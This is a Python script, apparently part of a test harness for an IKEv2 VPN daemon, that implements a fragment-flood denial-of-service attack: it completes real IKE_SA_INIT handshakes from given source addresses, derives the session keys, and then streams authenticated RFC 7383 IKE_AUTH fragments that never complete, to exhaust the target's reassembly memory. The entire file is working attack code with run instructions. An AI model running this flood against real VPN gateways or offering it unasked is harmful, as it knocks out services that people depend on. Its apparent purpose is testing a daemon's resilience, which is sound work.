"""A fragment flood at real half-open IKE SAs (RFC 7383 reassembly): the attacker makes genuine IKE_SA_INIT
exchanges with the target from the addresses it is given (answering COOKIEs), so it holds each half-open SA's
keys, then sends authentic SKF fragments of an IKE_AUTH request that never completes (fragment numbers 1 to
TOTAL - 1 of TOTAL, never the last), round robin over its SAs, as fast as one Python process can. Each fragment
passes the integrity check, so only the reassembly bounds stand between it and the target's memory. Run as a
child process in a namespace:

    python3 lib/fragment_flood.py DESTINATION SECONDS SAS SOURCE...

Offers aes256gcm16-prfsha256-x25519 with IKEV2_FRAGMENTATION_SUPPORTED; keys are derived as RFC 7296 section
2.14 says, with the `cryptography` package. Prints `sas N fragments M piece P in S s` at the end."""
import hashlib, hmac, os, socket, struct, sys, time

from cryptography.hazmat.primitives.asymmetric.x25519 import X25519PrivateKey, X25519PublicKey
from cryptography.hazmat.primitives.ciphers.aead import AESGCM

from flood import proposal  # lib/flood.py, beside this script: the same offer as the half-open flood's

SA, KE, IDI, NONCE, NOTIFY, SKF = 33, 34, 35, 40, 41, 53
IKE_SA_INIT, IKE_AUTH = 34, 35
COOKIE, FRAGMENTATION_SUPPORTED = 16390, 16430
TOTAL = 100  # fragments the attacker announces; it never sends the last
PIECE = 1000  # plaintext octets per fragment


def payload(next_type, body):
    return struct.pack("!BBH", next_type, 0, 4 + len(body)) + body


def notify(next_type, kind, data=b""):
    return payload(next_type, struct.pack("!BBH", 0, 0, kind) + data)


def header(spi_i, spi_r, first, exchange, flags, message_id, length):
    return spi_i + spi_r + struct.pack("!BBBBII", first, 0x20, exchange, flags, message_id, length)


def init_request(spi_i, public, nonce, cookie):
    """IKE_SA_INIT: [N(COOKIE)] SA KE Ni N(IKEV2_FRAGMENTATION_SUPPORTED); each header names the payload after it."""
    body = (payload(KE, proposal()) + payload(NONCE, struct.pack("!HH", 31, 0) + public) + payload(NOTIFY, nonce)
            + notify(0, FRAGMENTATION_SUPPORTED))
    first = SA
    if cookie is not None:
        body = notify(SA, COOKIE, cookie) + body
        first = NOTIFY
    return header(spi_i, bytes(8), first, IKE_SA_INIT, 0x08, 0, 28 + len(body)) + body


def payloads(message):
    """(type, body) of each payload of an unencrypted IKE message."""
    kind, offset, found = message[16], 28, []
    while kind != 0 and offset + 4 <= len(message):
        next_type, length = message[offset], struct.unpack("!H", message[offset + 2:offset + 4])[0]
        if length < 4:
            break
        found.append((kind, message[offset + 4:offset + length]))
        kind, offset = next_type, offset + length
    return found


def prf_plus(key, seed, length):
    out, block, counter = b"", b"", 1
    while len(out) < length:
        block = hmac.new(key, block + seed + bytes([counter]), hashlib.sha256).digest()
        out += block
        counter += 1
    return out[:length]


class HalfOpenSA:
    """One half-open IKE SA the attacker made, and the keys it sends with (SK_ei: AES-256-GCM key and salt)."""

    def __init__(self, sock, destination):
        self.sock, self.destination = sock, destination
        private = X25519PrivateKey.generate()
        public = private.public_key().public_bytes_raw()
        nonce_i, self.spi_i = os.urandom(32), os.urandom(8)
        cookie = None
        for _ in range(6):
            self.sock.send(init_request(self.spi_i, public, nonce_i, cookie))
            try:
                answer = self.sock.recv(2048)
            except socket.timeout:
                continue
            if answer[:8] != self.spi_i or answer[18] != IKE_SA_INIT:
                continue
            found = payloads(answer)
            cookies = [body[4:] for kind, body in found if kind == NOTIFY and struct.unpack("!H", body[2:4])[0] == COOKIE]
            if cookies:
                cookie = cookies[0]
                continue
            ke = [body[4:] for kind, body in found if kind == KE]
            nonce_r = [body for kind, body in found if kind == NONCE]
            if not ke or not nonce_r:
                raise RuntimeError(f"IKE_SA_INIT answered without KE or nonce: {found[:3]}")
            self.spi_r = answer[8:16]
            shared = private.exchange(X25519PublicKey.from_public_bytes(ke[0]))
            seed = hmac.new(nonce_i + nonce_r[0], shared, hashlib.sha256).digest()
            keys = prf_plus(seed, nonce_i + nonce_r[0] + self.spi_i + self.spi_r, 32 + 36 + 36 + 32 + 32)
            self.sk_ei = keys[32:68]
            self.aead = AESGCM(self.sk_ei[:32])
            self.counter = 0
            return
        raise RuntimeError("no IKE_SA_INIT answer after 6 tries")

    def fragment(self, number):
        """An authentic SKF fragment `number` of TOTAL of IKE_AUTH message 1 (RFC 7383 section 2.5)."""
        self.counter += 1
        iv = struct.pack("!Q", self.counter)
        plaintext = os.urandom(PIECE) + b"\0"  # no padding, pad length 0
        sealed_length = 8 + len(plaintext) + 16
        skf_header = struct.pack("!BBHHH", IDI if number == 1 else 0, 0, 8 + sealed_length, number, TOTAL)
        additional = header(self.spi_i, self.spi_r, SKF, IKE_AUTH, 0x08, 1, 28 + 8 + sealed_length) + skf_header
        return additional + iv + self.aead.encrypt(self.sk_ei[32:] + iv, plaintext, additional)


def main():
    destination, seconds, count, sources = sys.argv[1], float(sys.argv[2]), int(sys.argv[3]), sys.argv[4:]
    sas = []
    for i in range(count):
        sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        # charon's own mark (lib/peer.py), or kernel-libipsec tunnels a peer address's datagrams to the target as ESP.
        sock.setsockopt(socket.SOL_SOCKET, 36, 0x42)  # SO_MARK
        sock.bind((sources[i % len(sources)], 0))
        sock.connect((destination, 500))
        sock.settimeout(1.0)
        sas.append(HalfOpenSA(sock, destination))
    for sa in sas:
        sa.sock.setblocking(False)
    sent, start = 0, time.time()
    number = 1
    while time.time() < start + seconds:
        for sa in sas:
            try:
                sa.sock.send(sa.fragment(number))
                sent += 1
            except (BlockingIOError, OSError):
                pass
        number = number % (TOTAL - 1) + 1
    print(f"sas {len(sas)} fragments {sent} piece {PIECE} in {time.time() - start:.1f} s", flush=True)


if __name__ == "__main__":
    main()
